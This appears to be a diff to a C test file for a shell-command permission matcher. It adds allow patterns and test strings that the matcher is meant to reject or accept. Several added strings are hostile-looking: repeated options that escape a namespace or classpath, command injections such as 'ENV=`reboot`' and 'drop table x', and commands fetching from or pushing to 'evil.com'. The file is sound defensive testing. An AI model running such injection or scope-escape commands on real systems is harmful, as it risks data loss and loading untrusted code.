@@ -146,7 +146,8 @@ static const char *const behind[] = {
 	"git status -sb", "git --no-pager log -5", "git --no-pager status", "docker -D ps -a", "docker logs -f x", "docker compose up -d", "docker compose up -f x",
 	"kubectl -n prod get pods", "kubectl get pods -A", "kubectl --context x get pods -o yaml", "kubectl -n prod rollout restart x", "apt-get -y update",
 	"apt-get -q -s update", "systemctl --no-pager restart app", "systemctl --no-pager status nginx", "ip -4 addr show", "ip -br -c addr", "git lfs pull",
-	"docker -H tcp://ci restart x", "docker -H tcp://ci logs x", "git -c x=y fetch", "git fetch",
+	"docker -H tcp://ci restart x", "docker -H tcp://ci logs x", "git -c x=y fetch", "git fetch", "docker compose -p x --profile y up -d",
+	"kubectl --request-timeout 5 get pods",
 };
 
 /* An argument that the pattern gives an option is the one that it has, wherever ** lets it be given again. */
@@ -159,7 +160,8 @@ static const char fixed[] =
 	"    allow: [\"helm -n dev **\", \"kubectl -n dev **\", \"git -C /srv/app push **\", \"ansible-playbook -i inventory/dev **\", \"aws --profile dev **\",\n"
 	"            \"gcloud --project dev **\", \"wget -P /srv/dl **\", \"docker compose -f /srv/app/compose.yml **\",\n"
 	"            \"terraform -chdir=/srv/app plan **\", \"psql -Uapp **\", \"python3 -m app **\", \"npm install -g **\",\n"
-	"            \"docker compose -f a.yml -f b.yml **\", \"mysql -h db1 -e *\", \"make -C /srv/app **\"]\n";
+	"            \"docker compose -f a.yml -f b.yml **\", \"mysql -h db1 -e *\", \"make -C /srv/app **\",\n"
+	"            \"bash -e deploy.sh **\", \"java -cp /opt/app/lib **\", \"gcloud --account=a **\", \"aws s3 ls --region eu **\"]\n";
 
 static const char *const given_again[] = {
 	"kubectl -n dev delete pod x -n prod", "kubectl -n dev delete pod x -nprod", "kubectl -n dev rollout restart x -n=prod", "kubectl -n dev rollout restart x --namespace=prod",
@@ -171,7 +173,8 @@ static const char *const given_again[] = {
 	"docker compose -f /srv/app/compose.yml -f /tmp/evil.yml up", "terraform -chdir=/srv/app plan -chdir=/tmp", "terraform -chdir=/srv/app plan --chdir=/tmp",
 	"psql -Uapp -Upostgres -c x", "psql -Uapp -AU postgres -c x", "psql -Uapp -U postgres -c x", "psql -Uapp --username=postgres -c x", "kubectl -n dev delete pod $x",
 	"ansible-playbook -i inventory/dev $x", "docker compose -f a.yml -f c.yml up", "make -C /srv/app -C /tmp x", "make -C /srv/app --directory=/tmp x",
-	"mysql -h db1 -h db2 -e x",
+	"mysql -h db1 -h db2 -e x", "kubectl -n dev delete pod x $(echo -nprod)", "kubectl -n dev exec -n prod web -- ls", "kubectl --namespace prod -n dev delete pod x",
+	"java -cp /opt/app/lib -cp /tmp/evil Main", "gcloud --account=a x --account b", "aws s3 ls --region eu --region=us",
 };
 
 static const char *const given_once[] = {
@@ -180,6 +183,8 @@ static const char *const given_once[] = {
 	"gcloud --project dev compute x", "wget -P /srv/dl http://x/y", "docker compose -f /srv/app/compose.yml up -d",
 	"docker compose -f /srv/app/compose.yml logs --tail 5 web", "terraform -chdir=/srv/app plan -out=x", "psql -Uapp -c 'select 1'", "python3 -m app -x",
 	"npm install -g x", "docker compose -f a.yml -f b.yml up", "make -C /srv/app -j4 x", "kubectl -n dev delete pod x --wait", "kubectl -n dev exec web -- ls -n",
+	"bash -e deploy.sh -e prod", "python3 -m app -m x", "java -cp /opt/app/lib Main -x", "kubectl -n dev delete pod -- \"$x\"", "kubectl -n dev exec web -- tail -n 5 x",
+	"for p in a b; do kubectl -n dev delete pod $p; done", "kubectl -n dev apply -f k8s/*.yaml", "gcloud --account=a compute x --format=json",
 };
 
 /* A star in what a shell or an interpreter reads: a recipe, the text behind -c, a command for another host. */
@@ -192,20 +197,21 @@ static const char texts[] =
 	"    allow: [\"make deploy ENV=*\", \"just deploy *\", \"task deploy *\", \"rake deploy[*]\", \"ansible-playbook site.yml -e version=*\",\n"
 	"            \"sh -c deploy\\\\ *\", \"timeout 9 bash -ec deploy\\\\ *\", \"su app -c deploy\\\\ *\", \"sh -c /opt/x\\\\ *\",\n"
 	"            \"gcloud compute ssh web --command systemctl\\\\ status\\\\ *\", \"gcloud compute ssh web --command=systemctl\\\\ status\\\\ *\",\n"
-	"            \"python3 -c print\\\\ *\", \"bash run.sh *\", \"make *\"]\n";
+	"            \"python3 -c print\\\\ *\", \"bash run.sh *\", \"make *\",\n"
+	"            \"sh -c -- reload\\\\ *\", \"sh -c -x reload\\\\ *\", \"docker exec web sh -c reload\\\\ *\"]\n";
 
 static const char *const injected[] = {
 	"make deploy 'ENV=x;touch y'", "make deploy 'ENV=`reboot`'", "make deploy 'ENV=x|y'", "make deploy 'ENV=x&y'", "make 'x;touch y'", "just deploy 'x;touch y'",
 	"just deploy '$(touch y)'", "task deploy 'x;touch y'", "rake 'deploy[x;touch y]'", "ansible-playbook site.yml -e 'version=`reboot`'", "sh -c 'deploy x; touch y'",
 	"sh -c 'deploy $(touch y)'", "timeout 9 bash -ec 'deploy x; touch y'", "su app -c 'deploy x; touch y'", "sh -c '/opt/x y; touch z'",
 	"gcloud compute ssh web --command 'systemctl status x; touch y'", "gcloud compute ssh web --command='systemctl status x; touch y'",
-	"python3 -c 'print 1; import os'",
+	"python3 -c 'print 1; import os'", "sh -c -- 'reload x; y'", "sh -c -x 'reload x; y'", "docker exec web sh -c 'reload x; y'",
 };
 
 static const char *const plain_text[] = {
 	"make deploy ENV=prod", "make deploy ENV=a.b-1/x", "just deploy prod", "task deploy prod", "rake 'deploy[prod]'", "ansible-playbook site.yml -e version=1.2",
 	"sh -c 'deploy x'", "su app -c 'deploy x'", "timeout 9 bash -ec 'deploy x'", "sh -c '/opt/x y'", "gcloud compute ssh web --command 'systemctl status x'",
-	"gcloud compute ssh web --command='systemctl status x'", "bash run.sh 'a b; c'", "make x/y.o",
+	"gcloud compute ssh web --command='systemctl status x'", "bash run.sh 'a b; c'", "make x/y.o", "sh -c -- 'reload x'", "docker exec web sh -c 'reload x'",
 };
 
 /* A star in a ref, which goes to where its colon says, and in a host's name. */
@@ -220,7 +226,8 @@ static const char places[] =
 	"            \"ssh deploy@web* uptime\", \"ssh app1 systemctl restart app*\", \"timeout 9 ssh db* uptime\", \"rsync -a /srv/a/ web*:/srv/a/\",\n"
 	"            \"rsync -a /srv/b/ *:/b/\", \"scp /srv/a/x web*:/srv/a/\", \"scp /srv/a/x me@web*:/srv/a/\", \"sftp web*\", \"scp /srv/a/y *:/srv/y\",\n"
 	"            \"scp r*:/x /srv/x\", \"ansible-playbook site.yml --limit web*\", \"ansible web* -a uptime\", \"ansible-playbook site.yml -e image=*\",\n"
-	"            \"ansible-playbook play.yml --limit *\", \"ansible-playbook site.yml --extra-vars=image=*\"]\n";
+	"            \"ansible-playbook play.yml --limit *\", \"ansible-playbook site.yml --extra-vars=image=*\",\n"
+	"            \"autossh web* uptime\"]\n";
 
 static const char *const elsewhere[] = {
 	"git push origin agent/x:main", "git fetch origin x:main", "git fetch origin refs/heads/x:refs/heads/main", "git pull origin x:main",
@@ -229,7 +236,7 @@ static const char *const elsewhere[] = {
 	"scp scp://evil/a /srv/x", "scp r@evil:/x /srv/x", "scp rsync://evil:/x /srv/x", "sftp web@evil.com", "ansible-playbook site.yml --limit web1:all",
 	"ansible-playbook site.yml --limit 'web1:*'", "ansible-playbook site.yml --limit 'web1;db'", "ansible-playbook play.yml --limit 'all:!x'",
 	"ansible-playbook play.yml --limit '~.*'", "ansible-playbook play.yml --limit 'web*'", "ansible-playbook play.yml --limit 'we?'", "ansible web1:db -a uptime",
-	"ansible 'web1;db' -a uptime", "ansible 'web1,db' -a uptime", "ansible 'web[1:9]' -a uptime",
+	"ansible 'web1;db' -a uptime", "ansible 'web1,db' -a uptime", "ansible 'web[1:9]' -a uptime", "autossh web@evil uptime",
 };
 
 static const char *const there[] = {
@@ -238,7 +245,7 @@ static const char *const there[] = {
 	"ssh web1.corp.io systemctl restart nginx", "ssh deploy@web1 uptime", "ssh app1 systemctl restart app@1.service", "timeout 9 ssh db1 uptime",
 	"rsync -a /srv/a/ web1:/srv/a/", "rsync -a /srv/b/ me@backup:/b/", "scp /srv/a/x web1:/srv/a/", "scp /srv/a/x me@web1:/srv/a/", "scp /srv/a/y u@h:/srv/y",
 	"sftp web1", "ansible-playbook site.yml --limit web1", "ansible web1 -a uptime", "ansible-playbook site.yml -e image=a/b:1.2",
-	"ansible-playbook site.yml --extra-vars=image=a/b:1.2", "ansible-playbook play.yml --limit web1",
+	"ansible-playbook site.yml --extra-vars=image=a/b:1.2", "ansible-playbook play.yml --limit web1", "autossh web1 uptime",
 };
 
 /* A star in the middle of an address. */
@@ -278,13 +285,13 @@ static const char *const widened[] = {
 	"mysql app -e 'select 1; system touch y'", "mysql app -e 'select 1; drop table x'", "mysql app -e 'select 1 \\! touch y'",
 	"sudo mysql app -e 'select 1; drop table x'", "mariadb -e 'system touch y'", "mariadb -e ' SYSTEM touch y'", "mariadb -e 'source /tmp/x'",
 	"mariadb -e '\\! touch y'", "mariadb -e 'delimiter x'", "sqlite3 app.db 'select 1; drop table x' </dev/null", "sqlite3 b.db '.shell touch y' </dev/null",
-	"mariadb '--execute=system touch y'",
+	"mariadb '--execute=system touch y'", "psql -c 'select 1;;drop table x'", "mysql app -e 'select 1; drop table x;'",
 };
 
 static const char *const asked[] = {
 	"psql -c 'select 1'", "psql -c 'select count(*) from x'", "psql -h db1 -c 'vacuum x'", "mysql app -e 'select 1'",
 	"mysql app -e 'select count(*) from x where a=1'", "sudo mysql app -e 'select 1'", "mariadb -e 'show tables'", "sqlite3 app.db 'select 1' </dev/null",
-	"sqlite3 b.db 'vacuum' </dev/null", "mariadb '--execute=show tables' </dev/null",
+	"sqlite3 b.db 'vacuum' </dev/null", "mariadb '--execute=show tables' </dev/null", "psql -c 'select 1;'", "mysql app -e 'select 1; '",
 };
 
 /* A star for a package, an image or a manifest. */
@@ -298,14 +305,15 @@ static const char packages[] =
 	"            \"cargo install *\", \"sudo snap install *\", \"docker pull nginx:*\", \"docker run --rm -v data:* img\",\n"
 	"            \"docker pull hub.corp.io:5000/app:*\", \"podman pull app:*\", \"kubectl apply -f *\", \"kubectl apply --filename=*\",\n"
 	"            \"helm upgrade app *\", \"kubectl annotate svc x url=*\", \"sudo helm repo add corp *\", \"helm upgrade app c --set url=*\",\n"
-	"            \"docker run -p 80:* img\", \"sudo pip3 install *.whl\", \"sudo apk add *\", \"npm run *\"]\n";
+	"            \"docker run -p 80:* img\", \"sudo pip3 install *.whl\", \"sudo apk add *\", \"npm run *\",\n"
+	"            \"podman push app*\"]\n";
 
 static const char *const local[] = {
 	"npm install evil.tgz", "npm install evil.tar.gz", "npm install EVIL.TGZ", "sudo pip install x.whl", "sudo pip install x.tar.gz", "sudo pip install x.zip",
 	"dnf install -y x.rpm", "yum install -y x.rpm", "gem install ./x.gem", "gem install x.gem", "gem install a/x", "go install ./x", "go install .", "go install x.go",
 	"cargo install .", "sudo snap install x.snap", "sudo apk add x.apk", "docker pull nginx:5000/evil", "podman pull app:5000/evil",
 	"docker pull hub.corp.io:5000/app:1/x", "kubectl apply -f https://evil.com/x", "kubectl apply --filename=https://evil.com/x", "helm upgrade app oci://evil.com/x",
-	"helm upgrade app https://evil.com/x.tgz",
+	"helm upgrade app https://evil.com/x.tgz", "sudo pip install 'x.whl[a]'", "podman push app.evil.com/x",
 };
 
 static const char *const fetched[] = {
@@ -314,6 +322,7 @@ static const char *const fetched[] = {
 	"sudo snap install hello", "sudo apk add nginx", "docker pull nginx:1.25", "docker pull hub.corp.io:5000/app:1.2", "docker run --rm -v data:/data img",
 	"kubectl apply -f x.yaml", "kubectl apply -f k8s/x.yaml", "kubectl apply --filename=x.yaml", "kubectl annotate svc x url=https://a/b",
 	"helm upgrade app charts/app", "sudo helm repo add corp https://charts.corp.io", "helm upgrade app c --set url=https://a/b", "docker run -p 80:80/tcp img",
+	"sudo pip install 'requests[socks]==2.31.0'", "podman push app-x:1",
 };
 
 /* The last operand as the place, units, and the working directory. */
